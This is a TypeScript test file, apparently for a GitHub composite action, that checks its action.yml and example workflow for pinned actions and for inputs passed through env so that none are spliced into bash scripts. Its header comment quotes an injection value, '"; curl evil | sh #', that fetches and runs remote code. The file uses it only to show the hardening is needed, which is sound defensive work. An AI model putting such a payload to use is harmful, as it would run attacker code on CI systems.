import { strict as assert } from 'node:assert';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { ROOT } from '../cli/cli-process.js';
import { loadActionYml, type ActionStep, type ActionYml } from './action-runner.js';

/**
 * action.yml and the example workflow as files: the inputs the docs promise, actions pinned, and
 * no input or event value spliced into a script's text. The runner pastes `${{ … }}` into a
 * `run:` script before bash reads it, so `paths: '"; curl evil | sh #'` would run; through
 * `env:` it stays a value.
 */
describe('action.yml and the example workflow (parsed)', () => {
    let action: ActionYml;
    let raw: string;
    before(async () => {
        action = await loadActionYml();
        raw = readFileSync(join(ROOT, 'action.yml'), 'utf8');
    });

    it('is a composite action with the inputs paths, base, comment and fail-on (and token), defaults as documented', () => {
        assert.equal(action.runs.using, 'composite');
        assert.deepEqual(Object.keys(action.inputs).sort(), ['base', 'comment', 'fail-on', 'paths', 'token']);
        const defaults = Object.fromEntries(Object.entries(action.inputs).map(([name, input]) => [name, input.default]));
        assert.deepEqual(defaults, { paths: '.', base: '', comment: 'true', 'fail-on': 'error', token: '${{ github.token }}' });
        for (const [name, input] of Object.entries(action.inputs)) {
            assert.ok(input.description.length > 20, `input ${name} is described`);
            assert.notEqual(input.required, true, `input ${name} is optional`);
        }
    });

    it('uses only GitHub\'s own actions, each pinned to a full commit sha with its version in a comment', () => {
        const uses = action.runs.steps.filter(step => step.uses).map(step => step.uses!);
        assert.deepEqual(uses.map(u => u.slice(0, u.indexOf('@'))), ['actions/setup-node', 'actions/cache', 'actions/upload-artifact']);
        for (const use of uses) {
            assert.match(use, /^actions\/[\w-]+@[0-9a-f]{40}$/, use);
            assert.match(raw, new RegExp(`uses: ${use.replace(/[/.]/g, '\\$&')} # v\\d+\\.\\d+\\.\\d+\\n`), `${use} carries its version`);
        }
    });

    it('runs bash steps whose scripts hold no ${{ }} expression: inputs come in through env', () => {
        const runs = action.runs.steps.filter((step): step is ActionStep & { run: string } => typeof step.run === 'string');
        assert.ok(runs.length >= 3);
        for (const step of runs) {
            assert.equal(step.shell, 'bash', `step ${step.id} names its shell (composite steps must)`);
            assert.doesNotMatch(step.run, /\$\{\{/, `step ${step.id} splices an expression into its script`);
            assert.equal(step['working-directory'], undefined, `step ${step.id}: a working-directory expression would be one more place for values`);
        }
        const main = action.runs.steps.find(step => step.id === 'journeymap')!;
        assert.deepEqual(main.env, {
            JOURNEYMAP_PATHS: '${{ inputs.paths }}', JOURNEYMAP_BASE: '${{ inputs.base }}', JOURNEYMAP_COMMENT: '${{ inputs.comment }}',
            JOURNEYMAP_FAIL_ON: '${{ inputs.fail-on }}', JOURNEYMAP_OUT: '${{ runner.temp }}/journeymap', GITHUB_TOKEN: '${{ inputs.token }}',
        });
        // No other step reads an input at all.
        for (const step of action.runs.steps.filter(s => s !== main)) assert.doesNotMatch(JSON.stringify(step), /inputs\./, `step ${step.id ?? step.uses}`);
    });

    it('builds from its own checkout, then uploads the artifact even when the check failed', () => {
        const build = action.runs.steps.find(step => step.id === 'build')!;
        assert.match(build.run!, /cd "\$GITHUB_ACTION_PATH"\nnpm ci [^\n]*\nnpm run build/);
        const upload = action.runs.steps.find(step => step.uses?.startsWith('actions/upload-artifact@'))!;
        assert.equal(upload.if, '${{ !cancelled() }}');
        assert.deepEqual(upload.with, { name: 'journeymap-diff', path: '${{ runner.temp }}/journeymap', 'if-no-files-found': 'ignore' });
        const cache = action.runs.steps.find(step => step.uses?.startsWith('actions/cache@'))!;
        assert.equal(cache.with!.key, 'journeymap-npm-${{ runner.os }}-${{ steps.lock.outputs.hash }}');
    });

    it('declares outputs read from the journeymap step', () => {
        for (const [name, output] of Object.entries(action.outputs ?? {})) assert.equal(output.value, `\${{ steps.journeymap.outputs.${name} }}`);
    });

    it('the example workflow uses the action (no npm install of an unpublished package), with the permission and history it needs', async () => {
        const yaml = await import('js-yaml');
        const text = readFileSync(join(ROOT, 'examples/github-workflow/journeymap-pr.yml'), 'utf8');
        const workflow = yaml.load(text) as { permissions: Record<string, string>; jobs: Record<string, { steps: ActionStep[] }> };
        assert.doesNotMatch(text, /npm install/);
        assert.equal(workflow.permissions['pull-requests'], 'write');
        const steps = Object.values(workflow.jobs)[0].steps;
        const checkout = steps.find(step => step.uses?.startsWith('actions/checkout@'))!;
        assert.equal(String(checkout.with!['fetch-depth']), '0');
        const mine = steps.filter(step => step.uses?.startsWith('journeymap/journeymap@'));
        assert.deepEqual(mine.map(step => step.uses), ['journeymap/journeymap@v0']);
        for (const step of steps) assert.equal(step.run, undefined, 'the action does the work; no script of its own');
    });
});
